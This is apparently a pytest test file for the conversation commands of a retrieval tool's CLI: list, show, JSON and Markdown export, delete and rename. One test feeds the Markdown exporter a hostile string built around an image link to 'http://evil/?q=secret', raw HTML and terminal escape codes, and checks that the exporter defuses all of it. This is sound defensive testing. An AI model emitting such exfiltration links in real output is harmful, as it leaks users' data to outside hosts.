"""`ragkit conversations` and what it writes: lists, JSON, Markdown, deletions."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any
from uuid import UUID, uuid4

import pytest
from pydantic import SecretStr
from typer.testing import CliRunner

from ragkit import Settings
from ragkit.cli.main import app
from ragkit.conversation.export import to_markdown
from ragkit.errors import RagkitError
from ragkit.store.open import open_database
from ragkit.store.people.conversations import Conversations, StoredTurn, UsedPassage
from ragkit.types import Citation, Claim

TURN = StoredTurn(
    question="And how long?",
    query="How long is the leave?",
    answer="25 days [1].",
    refused=False,
    reason="",
    citations=(
        Citation(1, 7, "h.md", "Handbook", 2, 10, 20, "25 days", "verified", 4, ("Leave",)),
    ),
    claims=(Claim(0, 12, (1,), "supported"),),
    used=(UsedPassage(11, 7, 4, 0, 40),),
    cited=(11,),
    trace={"query": "rewritten by the model", "history": "1 of 1 turns shown"},
    timings={"retrieve": 0.25},
)


@pytest.fixture
def mine(
    fresh_database: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Conversations]:
    for name in [name for name in os.environ if "RAGKIT_" in name]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("RAGKIT_DATABASE_URL", fresh_database)
    monkeypatch.chdir(tmp_path)
    with open_database(Settings(database_url=SecretStr(fresh_database))) as database:
        yield Conversations(database.pool, "default", "default")


def add(mine: Conversations, title: str, turn: StoredTurn = TURN) -> UUID:
    number, token = uuid4(), uuid4()
    mine.begin(number, token, new=("handbook", title))
    mine.finish(number, token, turn)
    return number


def run(
    *arguments: str, code: int = 0, typed: str = "", who: Mapping[str, str] | None = None
) -> str:
    done = CliRunner().invoke(app, ["conversations", *arguments], input=typed, env=who)
    if isinstance(done.exception, RagkitError):
        assert done.exception.exit_code == code
        return str(done.exception)
    assert done.exit_code == code, (done.output, done.exception)
    return done.stdout


def run_json(*arguments: str) -> Any:
    return json.loads(run(*arguments, "--json"))


def test_list_show_and_export(mine: Conversations) -> None:
    assert "no conversations yet" in run("list")
    assert run_json("list") == {"conversations": []}
    number = add(mine, "How long is 假期?")
    assert f"{number}  How long is 假期?  handbook    1" in run("list")
    (listed,) = run_json("list")["conversations"]
    made, updated = listed["created_at"], listed["updated_at"]
    assert listed == {
        "id": str(number),
        "title": "How long is 假期?",
        "collection": "handbook",
        "turns": 1,
        "created_at": made,
        "updated_at": updated,
    }
    shown = run("show", str(number)[:8])
    assert "1. And how long?\n   Searched for: How long is the leave?\n   25 days [1]." in shown
    assert "[1] h.md" in shown
    exported = run_json("show", str(number))
    (turn,) = exported["turns"]
    assert turn == {
        "ordinal": 1,
        "question": "And how long?",
        "query": "How long is the leave?",
        "answer": "25 days [1].",
        "refused": False,
        "reason": "",
        "citations": [
            {
                "n": 1,
                "document": 7,
                "version": 4,
                "uri": "h.md",
                "title": "Handbook",
                "headings": ["Leave"],
                "page": 2,
                "start": 10,
                "end": 20,
                "quote": "25 days",
                "verdict": "verified",
            }
        ],
        "claims": [
            {
                "start": 0,
                "end": 12,
                "cites": [1],
                "support": "supported",
                "reason": "",
                "text": "25 days [1].",
            }
        ],
        "unverified": [],
        "used": [{"chunk": 11, "document": 7, "version": 4, "start": 0, "end": 40}],
        "first_source": 1,
        "cited": [11],
        "trace": {"query": "rewritten by the model", "history": "1 of 1 turns shown"},
        "timings": {"retrieve": 0.25},
        "created_at": turn["created_at"],
    }
    markdown = run("show", "--markdown", str(number))
    assert markdown.startswith("# How long is 假期?\n\nCollection handbook, begun 20")
    assert "> \\[1\\] 25 days\n>\n> h.md, Leave, page 2, quoted word for word\n" in markdown


def test_nothing_in_markdown_is_live(mine: Conversations) -> None:
    evil = "![x](http://evil/?q=secret) ![y][z]\n\n[z]: http://evil <img src=http://evil> \x1b[2J"
    turn = StoredTurn(
        evil, evil, evil, True, evil, citations=(Citation(1, 1, evil, evil, None, 0, 9, evil),)
    )
    number = add(mine, evil, turn)
    text = to_markdown(mine.get(number), mine.turns(number))
    assert text.count("http://evil") >= 10
    for live in ("![", "](", "\n[", "]:", "\x1b"):
        assert live not in text.replace("\\[", "").replace("\\]", "")
    assert "<" not in text.replace("\\<", "")


def test_deletion(mine: Conversations) -> None:
    numbers = [add(mine, f"number {n}") for n in range(4)]
    assert "give --all" in run("delete", code=2)
    assert "give --all" in run("delete", "--all", str(numbers[0]), code=2)
    # One that is not there, and none is deleted.
    assert "no conversation 'ffffffff'" in run("delete", str(numbers[0]), "ffffffff", code=2)
    assert len(mine.all()) == 4
    assert run("delete", str(numbers[0]), str(numbers[0])[:9]) == "Deleted: 1 conversation\n"
    assert run_json("delete", str(numbers[1])) == {"deleted": [str(numbers[1])]}
    run("delete", "--all", typed="y\n", code=2)  # no terminal, so nobody is asked
    assert len(mine.all()) == 2
    assert run("delete", "--all", "--yes") == "Deleted: 2 conversations\n"
    assert mine.all() == []


def test_what_is_anothers_is_not_there(mine: Conversations) -> None:
    number, gone = str(add(mine, "mine")), str(uuid4())
    for who in ({"RAGKIT_PRINCIPAL": "you"}, {"RAGKIT_TENANT": "other"}):
        for command in ("show", "delete"):
            said = run(command, number, code=2, who=who)
            assert said == run(command, gone, code=2, who=who).replace(gone, number)
            assert f"there is no conversation '{number}'" in said
        assert "no conversations yet" in run("list", who=who)
        run("delete", "--all", "--yes", who=who)
    assert len(mine.all()) == 1


def test_export_is_json_or_markdown(mine: Conversations) -> None:
    number = str(add(mine, "mine"))
    assert "not both" in run("show", number, "--json", "--markdown", code=2)


def test_rename(mine: Conversations) -> None:
    number = add(mine, "before")
    assert run("rename", str(number)[:8], "年假\x1b[31m") == (
        f"Conversation {str(number)[:8]} is now called “年假\ufffd[31m”.\n"
    )
    assert run_json("rename", str(number), "after")["title"] == "after"
    assert mine.get(number).title == "after"
    assert "a title has 1 to 200 characters" in run("rename", str(number), " ", code=2)
    assert "there is no conversation" in run("rename", "ffffffff", "x", code=2)
